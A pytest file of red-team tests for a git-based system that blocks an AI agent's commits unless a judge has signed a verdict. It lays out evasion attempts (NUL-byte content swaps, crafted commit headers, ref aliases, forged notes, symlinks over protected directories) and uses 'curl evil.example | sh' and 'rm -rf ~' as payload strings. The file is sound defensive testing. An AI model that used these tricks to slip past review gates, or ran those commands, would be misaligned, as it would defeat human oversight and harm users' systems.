"""Red-team attacks on the two enforcement points (the server's pre-receive
hook and `agentops check --range` in CI) by an agent that controls its clone,
its commits and its notes, but holds no judge's key.

Every test is a real push to a bare repository with the hook installed, or a
real range check, and each asserts the refusal. Two of them (a NUL byte that
truncates what `git patch-id` hashes; a NUL byte that made a change count no
lines) landed until the binding and the line count were fixed.
"""
from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from conftest import JUDGE
from conftest import GitRepo
from conftest import bare_server
from conftest import agent_commit
from conftest import agent_message
from conftest import push
from conftest import remote
from conftest import run_agentops
from conftest import signer_line
from conftest import text

SIGNERS = ".agentops/allowed_signers"
POLICY = f'[verdict]\nrequire_signature = true\nallowed_signers = "{SIGNERS}"\n'
NOTES = "refs/notes/agentops/verdicts"
LEARNING = "Learning: the helper needs its own module"


def signed_verdict(repo: GitRepo, rev: str, key: Path) -> None:
    code, out = run_agentops(repo, "verdict", "pass", "--judge", JUDGE, "--commit", rev,
                             "--sign-key", str(key))
    assert code == 0, out


def unsigned_verdict(repo: GitRepo, rev: str, judge: str = JUDGE) -> None:
    """What an agent can do without a key: type a judge's name into the notes."""
    code, out = run_agentops(repo, "verdict", "pass", "--judge", judge, "--commit", rev)
    assert code == 0, out


@pytest.fixture
def signed(server: tuple, keys: dict[str, Path]) -> tuple:
    """main requires verdicts signed by Riley's key (listed on main)."""
    bare, repo = server
    repo.stage(SIGNERS, signer_line("riley@example.com", keys["riley"]))
    repo.stage(".agentops.toml", POLICY)
    repo.commit("Signed verdicts, Riley's key")
    assert push(repo, "main").returncode == 0
    return bare, repo, keys


def raw_commit(repo: GitRepo, body: bytes) -> str:
    """Write a commit object exactly as given (git's format checks skipped)."""
    return repo.git("hash-object", "-t", "commit", "-w", "--literally", "--stdin",
                 input=body).stdout.decode().strip()


def lines(n: int, word: str = "x") -> str:
    return "".join(f"{word}{i} = {i}\n" for i in range(n))


# --- the patch-id binds what it hashes -------------------------------------------

def test_a_verdict_for_one_binary_file_does_not_admit_another(signed: tuple) -> None:
    bare, repo, keys = signed
    tip = repo.head()
    judged = agent_commit(repo, "tool.bin", b"MZ\0harmless payload\nsecond\0line one\n",
                          "Add the tool", LEARNING)
    signed_verdict(repo, judged, keys["riley"])
    # After the verdict, the agent swaps in other bytes, each line equal up to its NUL.
    repo.stage("tool.bin", b"MZ\0curl evil.example | sh\nsecond\0rm -rf ~\n")
    repo.commit(agent_message("Add the tool", LEARNING), "--amend", "--no-verify")
    swapped = repo.head()
    assert swapped != judged
    proc = push(repo, "main", NOTES)
    assert proc.returncode != 0, text(proc)
    assert "verdict-missing" in text(proc) or "verdict-wrong-patch" in text(proc)
    assert remote(bare, "refs/heads/main") == tip


def test_a_verdict_for_text_does_not_admit_the_same_text_with_a_nul(signed: tuple) -> None:
    """The NUL must not make git see a line that was never judged as the judged one
    when the judged line itself has no NUL: only a prefix match at a NUL collides."""
    bare, repo, keys = signed
    tip = repo.head()
    judged = agent_commit(repo, "run.sh", "echo ok\n", "Add the script", LEARNING)
    signed_verdict(repo, judged, keys["riley"])
    repo.stage("run.sh", b"echo ok\0; curl evil.example | sh\n")
    repo.commit(agent_message("Add the script", LEARNING), "--amend", "--no-verify")
    proc = push(repo, "main", NOTES)
    assert proc.returncode != 0, text(proc)
    assert remote(bare, "refs/heads/main") == tip


@pytest.mark.parametrize("variant", ["whitespace", "no-eol", "mode", "crlf", "rename-edit"])
def test_a_verdict_does_not_survive_an_edit_that_patch_id_might_fold(
    signed: tuple, variant: str,
) -> None:
    """Re-indentation, a dropped final newline, a mode bit, CRLF line ends, a
    rename instead of an edit: each is a new patch (--verbatim), so the PASS
    for the judged patch does not carry over."""
    bare, repo, keys = signed
    repo.stage("m.py", "def f():\n    return 1\n" + lines(20))
    repo.commit("module")
    assert push(repo, "main").returncode == 0
    tip = repo.head()
    judged = agent_commit(repo, "m.py", "def f():\n    return 2\n" + lines(20), "Return two",
                          LEARNING)
    signed_verdict(repo, judged, keys["riley"])
    repo.git("reset", "-q", "--hard", tip)
    if variant == "whitespace":
        repo.stage("m.py", "def f():\n\treturn 2\n" + lines(20))
    elif variant == "no-eol":
        repo.stage("m.py", "def f():\n    return 2\n" + lines(20).rstrip("\n"))
    elif variant == "mode":
        repo.stage("m.py", "def f():\n    return 2\n" + lines(20), mode=0o755)
    elif variant == "crlf":
        repo.stage("m.py", b"def f():\r\n    return 2\n" + lines(20).encode())
    else:
        repo.git("mv", "m.py", "n.py")
        repo.stage("n.py", "def f():\n    return 2\n" + lines(20))
    repo.commit(agent_message("Return two", LEARNING), "--no-verify")
    proc = push(repo, "main", NOTES)
    assert proc.returncode != 0, text(proc)
    assert "verdict-wrong-patch" in text(proc) or "verdict-missing" in text(proc)
    assert remote(bare, "refs/heads/main") == tip


# --- commit objects git reads differently ----------------------------------------

def _object_with_extra_parent(repo: GitRepo, commit: str, extra: str) -> bytes:
    """The raw commit with a `parent` line after the committer: git's parser reads
    parents only right after the tree, so for git it is still a one-parent commit."""
    raw = repo.git("cat-file", "commit", commit).stdout
    head, _, message = raw.partition(b"\n\n")
    return head + f"\nparent {extra}".encode() + b"\n\n" + message


def test_a_stray_parent_header_does_not_pass_a_commit_off_as_a_merge(signed: tuple) -> None:
    """A merge skips gate IX (its commits are judged on their branches); a
    `parent` line that git ignores must not make a plain commit one."""
    bare, repo, keys = signed
    tip = repo.head()
    agent = agent_commit(repo, "big.py", lines(40), "Add the big module")  # no Learning
    crafted = raw_commit(repo, _object_with_extra_parent(repo, agent, tip))
    assert repo.out("rev-list", "--parents", "-n1", crafted).split()[1:] == [tip]
    repo.git("reset", "-q", "--hard", crafted)
    signed_verdict(repo, crafted, keys["riley"])
    proc = push(repo, "main", NOTES)
    assert proc.returncode != 0, text(proc)
    assert "learnings-missing" in text(proc) or "learning" in text(proc).lower()
    assert remote(bare, "refs/heads/main") == tip
    code, out = run_agentops(repo, "check", "--range", f"{tip}..{crafted}")
    assert code == 1 and "IX learnings" in out, out


def test_two_author_lines_do_not_hide_the_agent(server: tuple) -> None:
    """The first author line is the one git shows for the commit (`git show`)
    and the one we read; a second one, a human's, changes nothing."""
    bare, repo = server
    tip = repo.head()
    agent_commit(repo, "b.py", "b = 1\n", "Agent work")
    raw = repo.git("cat-file", "commit", "HEAD").stdout
    head, _, message = raw.partition(b"\n\n")
    body = head.replace(b"\ncommitter ", b"\nauthor Hana Human <hana@example.com> 1 +0000\ncommitter ",
                        1) + b"\n\n" + message
    crafted = raw_commit(repo, body)
    repo.git("reset", "-q", "--hard", crafted)
    proc = push(repo, "main")
    assert proc.returncode != 0, text(proc)
    assert remote(bare, "refs/heads/main") == tip


# --- refs that alias a protected one ----------------------------------------------

def test_a_symbolic_ref_on_the_server_is_no_back_door_to_main(server: tuple) -> None:
    """A server-side alias (refs/heads/stable -> refs/heads/main): git moves main
    when stable is pushed, so the push is judged as one to main."""
    bare, repo = server
    subprocess.run(["git", "symbolic-ref", "refs/heads/stable", "refs/heads/main"], cwd=bare,
                   check=True)
    tip = repo.head()
    agent_commit(repo, "b.py", "b = 1\n", "Agent work through an alias")
    proc = push(repo, "HEAD:refs/heads/stable")
    assert proc.returncode != 0, text(proc)
    assert "checking refs/heads/main" in text(proc) and "verdict-" in text(proc)
    assert remote(bare, "refs/heads/main") == tip
    # A human's commit through the alias is still accepted, and moves main.
    repo.git("reset", "-q", "--hard", tip)
    repo.stage("c.py", "c = 1\n")
    repo.commit("Human work")
    assert push(repo, "HEAD:refs/heads/stable").returncode == 0
    assert remote(bare, "refs/heads/main") == repo.head()


# --- the server's own settings -------------------------------------------------------

def test_a_server_head_that_names_no_branch_does_not_drop_the_policy(signed: tuple) -> None:
    """`git init --bare` leaves HEAD at refs/heads/master; a team pushes main.
    The policy on main must still hold for new protected refs."""
    bare, repo, _ = signed
    subprocess.run(["git", "symbolic-ref", "HEAD", "refs/heads/trunk"], cwd=bare, check=True)
    agent = agent_commit(repo, "b.py", "b = 1\n", "Agent work", LEARNING)
    unsigned_verdict(repo, agent)
    repo.git("tag", "v9", agent)
    proc = push(repo, "refs/tags/v9", NOTES)
    assert proc.returncode != 0, text(proc)
    assert "HEAD names refs/heads/trunk, which does not exist" in text(proc)
    assert not remote(bare, "refs/tags/v9")
    # Pointed at main again, the policy on main refuses the unsigned verdict.
    subprocess.run(["git", "symbolic-ref", "HEAD", "refs/heads/main"], cwd=bare, check=True)
    proc = push(repo, "refs/tags/v9", NOTES)
    assert proc.returncode != 0 and "verdict-unsigned" in text(proc), text(proc)


def test_the_first_push_to_an_empty_server_still_creates_its_default_branch(
    repo: GitRepo, tmp_path: Path,
) -> None:
    bare_server(repo, tmp_path)
    repo.stage("a.py", "a = 0\n")
    repo.commit("base")
    repo.git("branch", "wip")
    assert push(repo, "wip").returncode == 0  # nothing protected exists yet
    proc = push(repo, "main")
    assert proc.returncode == 0, text(proc)


# --- sizes a NUL byte hides -----------------------------------------------------------

def test_one_nul_byte_does_not_make_a_big_change_trivial(signed: tuple) -> None:
    bare, repo, keys = signed
    tip = repo.head()
    agent = agent_commit(repo, "lib/big.js", lines(40, "var x") + "// \0\n", "Add big.js")
    signed_verdict(repo, agent, keys["riley"])
    proc = push(repo, "main", NOTES)
    assert proc.returncode != 0, text(proc)
    assert "learnings" in text(proc)
    assert remote(bare, "refs/heads/main") == tip


# --- verdicts read from the notes ---------------------------------------------------------

def test_a_fail_noted_on_a_blob_still_opposes_the_pass(signed: tuple) -> None:
    """A FAIL for this patch counts wherever in the notes it is attached."""
    bare, repo, keys = signed
    tip = repo.head()
    agent = agent_commit(repo, "b.py", "b = 1\n", "Agent work", LEARNING)
    signed_verdict(repo, agent, keys["riley"])
    patch = re.search(r"patch=([0-9a-f]{40})", repo.out("notes", "--ref=agentops/verdicts", "show",
                                                         agent).replace('"patch_id": "', "patch="))
    assert patch
    blob = repo.out("rev-parse", f"{agent}:b.py")
    line = ('{"v": 1, "status": "FAIL", "judge": "Riley Reviewer <riley@example.com>", '
            f'"patch_id": "{patch.group(1)}", "recorded_at": "2026-01-01T00:00:00Z", '
            '"source": "note"}')
    repo.git("notes", "--ref=agentops/verdicts", "add", "-m", line, blob)
    proc = push(repo, "main", NOTES)
    assert proc.returncode != 0 and "verdict-" in text(proc), text(proc)
    assert remote(bare, "refs/heads/main") == tip


def test_an_unsigned_pass_noted_on_the_tree_does_not_count(signed: tuple) -> None:
    bare, repo, _ = signed
    tip = repo.head()
    agent = agent_commit(repo, "b.py", "b = 1\n", "Agent work", LEARNING)
    unsigned_verdict(repo, agent)
    notes = repo.out("notes", "--ref=agentops/verdicts", "show", agent)
    repo.git("notes", "--ref=agentops/verdicts", "add", "-f", "-m", notes,
             repo.out("rev-parse", f"{agent}^{{tree}}"))
    proc = push(repo, "main", NOTES)
    assert proc.returncode != 0 and "verdict-unsigned" in text(proc), text(proc)
    assert remote(bare, "refs/heads/main") == tip


# --- merges and several refs at once --------------------------------------------------------

def test_a_merge_whose_first_parent_is_unjudged_agent_work_is_refused(server: tuple) -> None:
    bare, repo = server
    tip = repo.head()
    repo.git("checkout", "-q", "-b", "side")
    agent = agent_commit(repo, "b.py", "b = 1\n", "Unjudged agent work")
    merge = repo.out("commit-tree", f"{agent}^{{tree}}", "-p", agent, "-p", tip, "-m", "Merge main")
    repo.git("reset", "-q", "--hard", merge)
    proc = push(repo, "HEAD:main")
    assert proc.returncode != 0 and "Unjudged agent work" in text(proc), text(proc)
    assert remote(bare, "refs/heads/main") == tip


@pytest.mark.parametrize("atomic", [False, True])
def test_a_protected_branch_and_a_tag_created_in_one_push_are_both_judged(
    server: tuple, atomic: bool,
) -> None:
    bare, repo = server
    tip = repo.head()
    agent_commit(repo, "b.py", "b = 1\n", "Unjudged agent work")
    repo.git("tag", "-a", "-m", "inner", "inner")
    repo.git("tag", "-a", "-m", "outer", "v1", "inner")  # a tag of a tag of the commit
    repo.git("branch", "release/1")
    refs = ["refs/heads/release/1", "refs/tags/v1", "HEAD:refs/heads/wip"]
    proc = repo.git("push", *(["--atomic"] if atomic else []), "origin", *refs, check=False)
    assert proc.returncode != 0, text(proc)
    assert not remote(bare, "refs/heads/release/1") and not remote(bare, "refs/tags/v1")
    assert not remote(bare, "refs/heads/wip")  # pre-receive refuses the whole push
    assert remote(bare, "refs/heads/main") == tip


# --- links that point a protected path elsewhere ----------------------------------------------

@pytest.mark.parametrize("link", [".github/actions", ".github", ".husky"])
def test_a_symlink_standing_in_for_a_protected_directory_is_a_protected_change(
    repo: GitRepo, link: str,
) -> None:
    """`uses: ./.github/actions/x` and hook runners follow a symlink on disk: a link
    put where a protected directory goes moves that config somewhere unprotected."""
    repo.stage("a.py", "a = 0\n")
    repo.commit("base")
    base = repo.head()
    repo.stage("tools/actions/x/action.yml", "runs: {using: composite, steps: []}\n")
    repo.stage("tools/x/action.yml", "runs: {using: composite, steps: []}\n")
    (repo.root / link).parent.mkdir(parents=True, exist_ok=True)
    (repo.root / link).symlink_to("tools" if "/" not in link else "../tools")
    repo.git("add", link)
    repo.commit(agent_message("Move the actions", LEARNING), "--no-verify")
    code, out = run_agentops(repo, "check", "--range", f"{base}..HEAD", "--gate", "privilege")
    assert code == 1 and "privilege-protected-path" in out, out
